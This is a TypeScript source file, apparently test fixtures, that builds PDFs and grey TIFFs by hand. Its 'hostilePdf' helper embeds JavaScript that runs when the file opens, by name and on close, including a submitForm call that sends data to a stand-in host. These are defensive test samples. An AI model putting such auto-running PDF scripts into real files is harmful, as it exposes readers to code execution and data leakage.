/** A PDF by hand: `pages` pages with a line of text each, and more objects for what a hostile one carries. */
export function pdfOf({ pages = 1, catalog = '', more = [] as readonly string[] } = {}): Buffer {
  const kids = Array.from({ length: pages }, (_, at) => `${4 + at * 2} 0 R`).join(' ')
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`, `<< /Type /Pages /Count ${pages} /Kids [${kids}] >>`, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...Array.from({ length: pages }, (_, at) => {
      const text = `BT /F1 36 Tf 72 700 Td (Letter of referral, page ${at + 1}) Tj ET 1 0 0 RG 0 0 1 rg 72 400 300 200 re f`
      return [`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents ${5 + at * 2} 0 R >>`, `<< /Length ${text.length} >>\nstream\n${text}\nendstream`]
    }).flat(),
    ...more,
  ]
  let body = '%PDF-1.7\n'
  const places = objects.map((object, at) => {
    const place = body.length
    body += `${at + 1} 0 obj\n${object}\nendobj\n`
    return place
  })
  const start = body.length
  const table = ['0000000000 65535 f ', ...places.map((place) => `${String(place).padStart(10, '0')} 00000 n `)].join('\n')
  return Buffer.from(`${body}xref\n0 ${objects.length + 1}\n${table}\ntrailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`, 'latin1')
}

/** Programs in every place of a PDF that a reader might run: on opening, by name, on a link. */
export const hostilePdf = (): Buffer => pdfOf({
  catalog: `/OpenAction << /S /JavaScript /JS (app.alert\\('owned'\\); this.submitForm\\('https://example.org'\\); window.owned = 1) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (window.owned = 1) >>] >> >> /AA << /WC << /S /JavaScript /JS (window.owned = 1) >> >>`,
})

/** An uncompressed grey TIFF of one page for each shade. */
export function tiffOf(shades: readonly number[], edge = 64): Buffer {
  const parts = [Buffer.from([0x49, 0x49, 0x2a, 0x00, 8, 0, 0, 0])]
  let at = 8
  for (const [page, shade] of shades.entries()) {
    const tags: [number, number, number][] = [[256, 3, edge], [257, 3, edge], [258, 3, 8], [259, 3, 1], [262, 3, 1], [273, 4, at + 2 + 9 * 12 + 4], [277, 3, 1], [278, 3, edge], [279, 4, edge * edge]]
    const size = 2 + tags.length * 12 + 4
    const folder = Buffer.alloc(size)
    folder.writeUInt16LE(tags.length, 0)
    tags.forEach(([tag, type, value], i) => {
      folder.writeUInt16LE(tag, 2 + i * 12)
      folder.writeUInt16LE(type, 4 + i * 12)
      folder.writeUInt32LE(1, 6 + i * 12)
      folder.writeUInt32LE(value, 10 + i * 12)
    })
    const next = at + size + edge * edge
    folder.writeUInt32LE(page === shades.length - 1 ? 0 : next, size - 4)
    parts.push(folder, Buffer.alloc(edge * edge, shade))
    at = next
  }
  return Buffer.concat(parts)
}
